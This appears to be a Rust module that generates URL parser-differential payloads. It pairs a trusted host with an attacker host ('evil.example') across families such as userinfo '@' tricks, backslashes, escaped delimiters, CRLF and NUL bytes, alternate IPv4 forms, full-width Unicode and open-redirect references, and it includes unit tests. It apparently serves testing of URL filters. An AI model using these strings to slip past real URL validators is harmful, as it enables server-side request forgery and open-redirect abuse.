//! The families of strings in which two readers may find two hosts, one row each: name, templates, why, and where that
//! is written.
//!
//! In a template `{good}` and `{evil}` are the hosts, and `{evil:FORM}` is the second in a [form](super::payloads).
//! What is forgotten is who reads how: that is found by asking.

use std::net::Ipv4Addr;

/// A document and a section of it; the section is empty where the whole document is meant.
pub(super) type Citation = (&'static str, &'static str);

/// Strings that rest on one ambiguity.
pub(super) struct Family {
    pub(super) name: &'static str,
    pub(super) templates: &'static [&'static str],
    /// What readers do not agree on.
    pub(super) why: &'static str,
    pub(super) cites: Citation,
    /// Whether the strings are references, which mean something against a base alone.
    pub(super) is_reference: bool,
}

const PARSING: Citation = ("URL Standard", "URL parsing");
const HOST_PARSING: Citation = ("URL Standard", "host parsing");
const IDNA: Citation = ("URL Standard", "IDNA");

const fn rfc3986(section: &'static str) -> Citation {
    ("RFC 3986", section)
}

const fn row(
    name: &'static str,
    templates: &'static [&'static str],
    why: &'static str,
    cites: Citation,
) -> Family {
    Family { name, templates, why, cites, is_reference: false }
}

const fn reference(
    name: &'static str,
    templates: &'static [&'static str],
    why: &'static str,
    cites: Citation,
) -> Family {
    Family { name, templates, why, cites, is_reference: true }
}

#[rustfmt::skip]
pub(super) const FAMILIES: &[Family] = &[
    row("userinfo",
        &["http://{good}@{evil}/", "http://{good}:80@{evil}:80/", "http://u:{good}@{evil}/", "http://{good}&x=y@{evil}/"],
        "what stands before `@` is the user, and not the host", rfc3986("7.6")),
    row("empty-userinfo",
        &["http://@{good}@{evil}/", "http://:@{evil}/", "http://{good}:@{evil}/"],
        "an empty user is a user", rfc3986("3.2.1")),
    row("two-at-signs",
        &["http://u@{good}@{evil}/", "http://u@{good}:80@{evil}/", "http://u:p@{good}:80@{evil}:80/"],
        "no rule says which of two `@` divides", rfc3986("3.2.1")),
    row("backslash-at",
        &["http://{evil}\\@{good}/", "http://{evil}\\\\@{good}/", "http://u:p@{evil}:80\\@{good}/", "http://{evil}\\@@{good}/"],
        "`\\` ends the authority, or is a character of the user", PARSING),
    row("backslash-in-host",
        &["http://{evil}\\.{good}/", "http://{evil}\\{good}/", "http://{evil}:80\\.{good}/"],
        "`\\` ends the host, or is a character of the host", PARSING),
    row("backslash-slashes",
        &["http:\\\\{evil}/", "http:/\\{evil}/", "http:\\/{evil}/", "http:\\\\{evil}\\@{good}/", "http://\\{evil}/"],
        "`\\` stands for `/` before a host, or not", PARSING),
    row("slash-count",
        &["http:{evil}/", "http:/{evil}/", "http:///{evil}/", "http:////{evil}/", "http:{good}@{evil}/", "http:///{good}@{evil}/"],
        "more or fewer slashes than two begin an authority, or not", PARSING),
    row("fragment",
        &["http://{evil}#@{good}/", "http://{evil}#.{good}/", "http://{evil}:80#@{good}:80/", "http://u#@{evil}#@{good}/"],
        "`#` ends the authority before the `@`", rfc3986("3.2")),
    row("query",
        &["http://{evil}?@{good}/", "http://{evil}?.{good}/", "http://{evil}?#@{good}/"],
        "`?` ends the authority before the `@`", rfc3986("3.2")),
    row("path",
        &["http://{evil}/@{good}/", "http://{evil}/\\@{good}/", "http://{evil}//@{good}/"],
        "`/` ends the authority before the `@`", rfc3986("3.2")),
    row("sub-delimiter",
        &["http://{evil};.{good}/", "http://{evil};@{good}/", "http://{evil},{good}/", "http://{evil}&{good}/", "http://{evil}+{good}/"],
        "`;` and its like are characters of a name, or end it", rfc3986("3.2.2")),
    row("escaped-at",
        &["http://{good}%40{evil}/", "http://{good}%40@{evil}/", "http://{good}%40.{evil}/"],
        "an escaped `@` is data, or divides once it is decoded", rfc3986("2.2")),
    row("escaped-slash",
        &["http://{evil}%2F@{good}/", "http://{evil}%2F.{good}/", "http://{evil}%2F{good}/"],
        "an escaped `/` is data, or divides once it is decoded", rfc3986("2.2")),
    row("escaped-fragment",
        &["http://{evil}%23@{good}/", "http://{evil}%23.{good}/"],
        "an escaped `#` is data, or divides once it is decoded", rfc3986("2.2")),
    row("escaped-query",
        &["http://{evil}%3F@{good}/", "http://{evil}%3F.{good}/"],
        "an escaped `?` is data, or divides once it is decoded", rfc3986("2.2")),
    row("escaped-colon",
        &["http://{evil}%3A80@{good}/", "http://{evil}%3A80.{good}/", "http://{good}%3A@{evil}/"],
        "an escaped `:` is data, or divides once it is decoded", rfc3986("2.2")),
    row("escaped-backslash",
        &["http://{evil}%5C@{good}/", "http://{evil}%5C.{good}/"],
        "an escaped `\\` is data, or a slash once it is decoded", rfc3986("2.4")),
    row("double-escape",
        &["http://{evil}%252F@{good}/", "http://{evil}%252F.{good}/", "http://{good}%2540{evil}/"],
        "who decodes twice finds a delimiter", rfc3986("2.4")),
    row("bad-escape",
        &["http://{evil}%.{good}/", "http://{evil}%zz.{good}/", "http://{evil}%zz@{good}/", "http://{evil}%2@{good}/"],
        "`%` without two digits is refused, kept, or cut off", rfc3986("2.1")),
    row("percent-u",
        &["http://{evil}%u002F@{good}/", "http://{evil}%u002F.{good}/"],
        "`%u002F` is no escape, or is decoded to `/`", rfc3986("2.1")),
    row("overlong-utf8",
        &["http://{evil}%C0%AF@{good}/", "http://{evil}%C0%AF.{good}/"],
        "`%C0%AF` is no UTF-8, or is decoded to `/`", ("RFC 3629", "10")),
    row("escaped-line-break",
        &["http://{evil}%0D%0A@{good}/", "http://{evil}%0D%0A.{good}/", "http://{evil}%0D%0AHost:%20{good}/"],
        "an escaped line break is data, or ends a line of a request once it is decoded", rfc3986("7.2")),
    row("escaped-nul",
        &["http://{evil}%00@{good}/", "http://{evil}%00.{good}/"],
        "an escaped NUL ends the string once it is decoded", rfc3986("7.3")),
    row("nul",
        &["http://{evil}\0@{good}/", "http://{evil}\0.{good}/"],
        "a NUL ends the string, or is a character of it", rfc3986("7.3")),
    row("port",
        &["http://{good}:{evil}/", "http://{good}:80:{evil}/", "http://{evil}:80{good}/", "http://{evil}:80.{good}/",
            "http://{evil}:80,{good}:80/", "http://{good}:x@{evil}/"],
        "a port that is no number is refused, cut off, or a part of the host", rfc3986("3.2.3")),
    row("space",
        &["http://{evil} @{good}/", "http://{evil} .{good}/", "http://{evil} {good}/", "http://{good} &@{evil}# @{good}/"],
        "a blank ends the URL, is escaped, or is refused", rfc3986("Appendix C")),
    row("leading-blank",
        &[" http://{evil}/", "\u{1}http://{evil}/", "\u{a0}http://{evil}/", "\u{feff}http://{evil}/"],
        "what stands before the scheme is removed, or there is no scheme", PARSING),
    row("tab",
        &["http://{evil}\t@{good}/", "http://{evil}\t.{good}/", "http://{evil}\t/@{good}/", "ht\ttp://{evil}/", "http:/\t/{evil}/"],
        "a tab is removed, ends the URL, or is refused", PARSING),
    row("line-break",
        &["http://{evil}\n@{good}/", "http://{evil}\n.{good}/", "http://{evil}\r@{good}/", "http://{evil}\r\n.{good}/",
            "http:/\n/{evil}/"],
        "a line break is removed, ends the URL, or is refused", PARSING),
    row("control",
        &["http://{evil}\u{1}@{good}/", "http://{evil}\u{b}.{good}/", "http://{evil}\u{7f}.{good}/"],
        "a control is refused, escaped, or kept", HOST_PARSING),
    row("raw-delimiter",
        &["http://{evil}|.{good}/", "http://{evil}^.{good}/", "http://{evil}`.{good}/", "http://{evil}<.{good}/",
            "http://{evil}>.{good}/", "http://{evil}\".{good}/", "http://{evil}|@{good}/", "http://{evil}\"@{good}/"],
        "a character that no URI has is refused, escaped, or ends the host", rfc3986("2")),
    row("bracket",
        &["http://[{good}]@{evil}/", "http://{evil}[@{good}/", "http://{evil}].{good}/", "http://[{evil}].{good}/",
            "http://{good}[{evil}]/", "http://{evil}[.{good}/", "http://[{evil}/"],
        "brackets hold an address alone, and divide before `:` and `@` for some", rfc3986("3.2.2")),
    row("ipv6",
        &["http://[::1].{evil}/", "http://[::1]{evil}/", "http://[::1]:80@{evil}/", "http://[::1]@{evil}/", "http://[::1]:80.{evil}/"],
        "what stands behind an address in brackets is refused, cut off, or the host", rfc3986("3.2.2")),
    row("zone",
        &["http://[fe80::1%25{evil}]/", "http://[fe80::1%{evil}]/", "http://[::1%25]@{evil}/"],
        "a zone identifier is a part of the address, or is refused", ("RFC 6874", "2")),
    row("ipv4-form",
        &["http://{evil:hex}/", "http://{evil:decimal}/", "http://{evil:octal}/", "http://{evil:short}/"],
        "a number is an address for inet_aton() and the URL Standard, and a name for RFC 3986", rfc3986("7.4")),
    row("ipv4-in-ipv6",
        &["http://[::ffff:{evil:address}]/", "http://[::{evil:address}]/", "http://[64:ff9b::{evil:address}]/"],
        "an address of IPv4 within one of IPv6 leads to the first, or not", ("RFC 4291", "2.5.5")),
    row("escaped-host",
        &["http://{evil:escaped}/", "http://{evil:escaped}@{good}/"],
        "an escaped name is decoded before it is looked up, or not", rfc3986("3.2.2")),
    row("full-width-delimiter",
        &["http://{evil}\u{ff0f}.{good}/", "http://{evil}\u{ff0f}@{good}/", "http://{evil}\u{ff03}@{good}/", "http://{evil}\u{ff1f}@{good}/",
            "http://{good}\u{ff20}{evil}/", "http://{good}\u{fe6b}{evil}/", "http://{evil}\u{ff3c}@{good}/", "http://{evil}\u{ff1a}80.{good}/",
            "http://{evil}\u{2100}.{good}/"],
        "a character that NFKC maps to a delimiter divides once it is mapped", IDNA),
    row("full-width-letters",
        &["http://{evil:wide}/", "http://{evil:wide}:80/"],
        "full-width letters are mapped to ASCII before the name is looked up, or not", IDNA),
    row("full-width-dot",
        &["http://{evil:dots}/", "http://{evil}\u{3002}{good}/", "http://{evil}\u{ff0e}{good}/"],
        "a full-width stop divides the labels of a name, or not", IDNA),
    row("ignored-character",
        &["http://{evil:soft}/", "http://{evil}\u{200b}.{good}/", "http://{evil}\u{ad}@{good}/"],
        "a character that is not seen is removed from a name, or not", ("UTS 46", "")),
    row("trailing-dot",
        &["http://{evil}./", "http://{evil}..{good}/"],
        "the dot of the root belongs to the name, or is removed", rfc3986("3.2.2")),
    row("inner-url",
        &["http://{good}/http://{evil}/", "http://http://{evil}/", "http://{evil}://{good}/"],
        "the first `://` begins the authority, or the last one", rfc3986("Appendix B")),
    row("other-scheme",
        &["foo://{evil}\\@{good}/", "foo:\\\\{evil}/", "foo:///{evil}/", "file:////{evil}/", "file:\\\\{evil}/"],
        "slashes and `\\` mean something else under a scheme that is not special", PARSING),
    row("no-scheme",
        &["{evil}:80/", "{evil}:80/@{good}/", "{good}:80@{evil}/", "{good}:pw@{evil}/"],
        "what stands before the first `:` is a scheme, or a host", rfc3986("3.1")),
    row("dot-segments",
        &["http://{good}/..//{evil}/", "http://{good}/../@{evil}/", "foo:/.//{evil}/", "foo:/..//{evil}/"],
        "a path that begins with `//` once its dots are removed is an authority, or not", rfc3986("3.3")),
    reference("redirect-slashes",
        &["//{evil}/", "///{evil}/", "////{evil}/", "//{good}@{evil}/"],
        "two slashes begin an authority, and more do for some", rfc3986("4.2")),
    reference("redirect-backslash",
        &["/\\{evil}/", "\\/{evil}/", "\\\\{evil}/", "//\\{evil}/", "/\\/{evil}/"],
        "`\\` stands for `/`, so that the reference has a host, or not", PARSING),
    reference("redirect-removed",
        &["/\t/{evil}/", "/\n/{evil}/", "\t//{evil}/", " //{evil}/", "/\t\\{evil}/"],
        "what is removed leaves two slashes, so that the reference has a host", PARSING),
    reference("redirect-scheme",
        &["http:{evil}/", "http:/{evil}/", "http:///{evil}/", "https:{evil}/", "https:/{evil}/"],
        "a reference with a scheme and without two slashes has a host, or is a path", rfc3986("5.2.2")),
    reference("redirect-dots",
        &["/.//{evil}/", "/..//{evil}/", ".//{evil}/", "..//{evil}/"],
        "a path that begins with `//` once its dots are removed is an authority, or not", rfc3986("5.2.4")),
    reference("redirect-escaped",
        &["/%2F{evil}/", "/%5C{evil}/", "/%09/{evil}/", "%2F%2F{evil}/"],
        "who decodes before dividing finds two slashes", rfc3986("2.4")),
    reference("redirect-appended",
        &["@{evil}/", ".{evil}/", ":80@{evil}/"],
        "who appends the reference to the text of the base changes the host", rfc3986("5.2")),
];

// The strings of two hosts.
//
// In: a host that is trusted, and one of an attacker. Out: a string for each template of the [`FAMILIES`], and one more
// with the hosts exchanged where the template has both: which of two readers is the filter is not known. What is
// forgotten is whether any reader parts there.
//
// The surprising case: a form of a host may not exist. Only an address of IPv4 has one in hexadecimal digits, and only a
// name is written with full-width letters.

/// Two hosts.
#[derive(Clone, Copy)]
pub(super) struct Hosts<'h> {
    pub(super) good: &'h str,
    pub(super) evil: &'h str,
}

/// A string that may lead two readers to two hosts.
pub(super) struct Payload {
    pub(super) family: &'static Family,
    pub(super) text: String,
}

/// All strings, in the order of the families, each once.
pub(super) fn all(hosts: Hosts<'_>) -> Vec<Payload> {
    let mut payloads: Vec<Payload> = Vec::new();
    let exchanged = Hosts { good: hosts.evil, evil: hosts.good };
    for family in FAMILIES {
        for template in family.templates {
            let both = template.contains("{good}") && template.contains("{evil");
            for hosts in [hosts, exchanged].into_iter().take(1 + usize::from(both)) {
                let Some(text) = written(template, hosts) else { continue };
                if payloads.iter().all(|one| one.text != text) {
                    payloads.push(Payload { family, text });
                }
            }
        }
    }
    payloads
}

/// A template with the hosts in it. None if it has a form that the host does not have.
fn written(template: &str, hosts: Hosts<'_>) -> Option<String> {
    let (mut text, mut rest) = (String::new(), template);
    while let Some((before, after)) = rest.split_once('{') {
        let (name, after) = after.split_once('}')?;
        text += before;
        match name {
            "good" => text += hosts.good,
            "evil" => text += hosts.evil,
            form => text += &formed(form.strip_prefix("evil:")?, hosts.evil)?,
        }
        rest = after;
    }
    Some(text + rest)
}

/// A host in a form: an address of IPv4 in one of numbers, a name in one of letters.
fn formed(form: &str, host: &str) -> Option<String> {
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        let ([a, b, c, d], number) = (address.octets(), u32::from(address));
        return Some(match form {
            "address" => host.to_owned(),
            "hex" => format!("0x{number:x}"),
            "decimal" => number.to_string(),
            "octal" => format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
            "short" => format!("{a}.{}", number & 0xff_ffff),
            "escaped" => escaped(host),
            _ => return None,
        });
    }
    if host.starts_with('[') {
        return None;
    }
    Some(match form {
        "escaped" => escaped(host),
        "wide" => host.chars().map(wide).collect(),
        "dots" => host.replace('.', "\u{3002}"),
        "soft" => {
            let (first, rest) = host.split_at_checked(1)?;
            format!("{first}\u{ad}{rest}")
        }
        _ => return None,
    })
}

/// Each octet escaped (RFC 3986, 2.1).
fn escaped(host: &str) -> String {
    host.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// A letter or a digit of ASCII in full width, as U+FF41 is `a`.
fn wide(c: char) -> char {
    match c {
        'a'..='z' | 'A'..='Z' | '0'..='9' => {
            char::from_u32(u32::from(c) - 0x20 + 0xff00).unwrap_or(c)
        }
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    const HOSTS: Hosts<'static> = Hosts { good: "good.example", evil: "evil.example" };

    #[test]
    fn a_template_has_its_hosts() {
        let text = |template| written(template, HOSTS);
        assert_eq!(text("http://{evil}\\@{good}/").unwrap(), "http://evil.example\\@good.example/");
        assert_eq!(text("http://{evil:dots}/").unwrap(), "http://evil\u{3002}example/");
        assert_eq!(text("{evil:hex}"), None);
        assert_eq!(text("{evil:nothing}"), None);
    }

    #[test]
    fn forms_of_a_host() {
        // 192.0.2.1 is c0 00 02 01: 3,221,225,985 and 0xC0000201; its last three octets are 513.
        let of = |form| formed(form, "192.0.2.1");
        assert_eq!(of("hex").unwrap(), "0xc0000201");
        assert_eq!(of("decimal").unwrap(), "3221225985");
        assert_eq!(of("octal").unwrap(), "0300.00.02.01");
        assert_eq!(of("short").unwrap(), "192.513");
        assert_eq!(of("escaped").unwrap(), "%31%39%32%2E%30%2E%32%2E%31");
        assert_eq!(of("address").unwrap(), "192.0.2.1");
        assert_eq!(of("wide"), None);
        assert_eq!(formed("hex", "a.b"), None);
        assert_eq!(formed("wide", "a9.B").unwrap(), "\u{ff41}\u{ff19}.\u{ff22}");
        assert_eq!(formed("soft", "ab.c").unwrap(), "a\u{ad}b.c");
        assert_eq!(formed("escaped", "a.b").unwrap(), "%61%2E%62");
        for form in ["hex", "wide", "escaped", "soft", "dots"] {
            assert_eq!(formed(form, "[::1]"), None, "{form}");
        }
        // The first character has more than one octet.
        assert_eq!(formed("soft", "\u{e9}a"), None);
    }

    #[test]
    fn each_family_has_strings_and_each_string_a_family() {
        let named: BTreeSet<_> = FAMILIES.iter().map(|family| family.name).collect();
        assert_eq!(named.len(), FAMILIES.len());
        let hosts = [HOSTS, Hosts { evil: "192.0.2.1", ..HOSTS }];
        let made: BTreeSet<_> =
            hosts.into_iter().flat_map(all).map(|payload| payload.family.name).collect();
        assert_eq!(made, named);
        for hosts in hosts {
            let payloads = all(hosts);
            let texts: BTreeSet<_> = payloads.iter().map(|payload| &payload.text).collect();
            assert_eq!(texts.len(), payloads.len());
            for text in texts {
                assert!(!text.contains(['{', '}']), "{text}");
            }
        }
    }

    /// Both hosts change places, since either reader may be the filter.
    #[test]
    fn hosts_are_exchanged() {
        let texts: Vec<_> = all(HOSTS).into_iter().map(|payload| payload.text).collect();
        for text in ["http://evil.example\\@good.example/", "http://good.example\\@evil.example/"] {
            assert!(texts.iter().any(|one| one == text), "{text}");
        }
        assert!(!texts.iter().any(|text| text == "http:good.example/"));
    }
}
